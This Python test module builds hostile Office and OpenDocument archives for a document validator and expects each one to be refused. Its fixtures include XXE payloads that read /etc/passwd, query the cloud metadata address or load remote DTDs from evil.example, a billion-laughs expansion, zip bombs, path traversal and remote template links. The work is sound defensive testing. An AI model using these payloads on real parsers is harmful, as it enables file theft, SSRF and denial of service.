"""Office files: entities from elsewhere (XXE), laughs, macros, templates that are fetched, parts that are missing."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.hostile.cases import CLEAN, REFUSED, TYPES, Case
from tests.hostile.raw_zip import Part, archive, zeros_part

KINDS = {"docx": b"word/document.xml", "xlsx": b"xl/workbook.xml", "pptx": b"ppt/presentation.xml"}
OPEN = ("odt", "ods", "odp")
DECLARED = "declares a document type"
XML = b'<?xml version="1.0" encoding="UTF-8"?>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DECLARATIONS = {
    "file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "fetch": b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/">]><x>&e;</x>',
    "outside": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "parameter": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "ftp://evil.example/p"> %p;]><x/>',
    "laughs": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><x>&c;</x>',
    "lower-case": b'<!doctype x [<!entity e "x">]><x/>',
}


def cases() -> Iterator[Case]:
    """All of them."""
    for ending in (*KINDS, *OPEN):
        yield from _markup(ending)
        yield from _others(ending)
    yield from _links()


def document(ending: str, *more: Part, main: bytes = b"<x/>") -> bytes:
    """An office file with this main part and these further ones."""
    if ending in OPEN:
        first = Part(b"mimetype", TYPES[ending].encode(), method=0)
        return archive(first, Part(b"content.xml", XML + main), *more)
    parts = (Part(b"[Content_Types].xml", XML + b"<Types/>"), Part(b"_rels/.rels", XML + b"<Relationships/>"))
    return archive(*parts, Part(KINDS[ending], XML + main), *more)


def _markup(ending: str) -> Iterator[Case]:
    for name, text in DECLARATIONS.items():
        yield Case(f"xxe-{name}", ending, partial(document, ending, main=text), REFUSED, DECLARED)
    wide = DECLARATIONS["file"].decode()
    for code in ("utf-16-le", "utf-16-be"):
        coded = b"\xff\xfe" + wide.encode(code) if code.endswith("le") else b"\xfe\xff" + wide.encode(code)
        part = Part(b"custom/item1.xml", coded)
        yield Case(f"xxe-{code}", ending, partial(document, ending, part), REFUSED, DECLARED)
    late = Part(b"docProps/app.xml", XML + b"<!--" + b"x" * 200_000 + b"-->" + DECLARATIONS["file"])
    yield Case("xxe-late", ending, lambda: document(ending, late), REFUSED, DECLARED)


def _others(ending: str) -> Iterator[Case]:
    macro = b"Basic/Standard/Module1.xml" if ending in OPEN else KINDS[ending].split(b"/")[0] + b"/vbaProject.bin"
    yield Case("honest", ending, lambda: document(ending), CLEAN)
    yield Case("macros", ending, lambda: document(ending, Part(macro, b"\xd0\xcf\x11\xe0")), REFUSED, "macros")
    yield Case("bomb", ending, lambda: document(ending, zeros_part(256 << 20, b"media/a.emf")), REFUSED, "as a bomb")
    yield Case("xml-bomb", ending, lambda: document(ending, zeros_part(256 << 20, b"a.xml")), REFUSED, "as a bomb")
    yield Case("slip", ending, lambda: document(ending, Part(b"../../x.xml")), REFUSED, "outside the folder")
    yield Case("password", ending, lambda: document(ending, Part(b"EncryptedPackage", flags=1)), REFUSED, "password")
    yield Case("cut", ending, lambda: document(ending)[:-20], REFUSED, "damaged")
    yield Case("archive-only", ending, lambda: archive(Part(b"readme.txt")), REFUSED, "ending")


def _links() -> Iterator[Case]:
    for ending, folder in (("docx", b"word"), ("xlsx", b"xl"), ("pptx", b"ppt")):
        for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
            part = Part(folder + b"/_rels/settings.xml.rels", _link(kind, "http://evil.example/t.dotm"))
            yield Case(f"fetched-{kind}", ending, partial(document, ending, part), REFUSED, "from elsewhere")
        part = Part(folder + b"/_rels/document.xml.rels", _link("hyperlink", "https://doi.org/10"))
        yield Case("honest-link", ending, partial(document, ending, part), CLEAN)


def _link(kind: str, target: str) -> bytes:
    link = f'<Relationship Id="r1" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/>'
    return XML + f"<Relationships>{link}</Relationships>".encode()
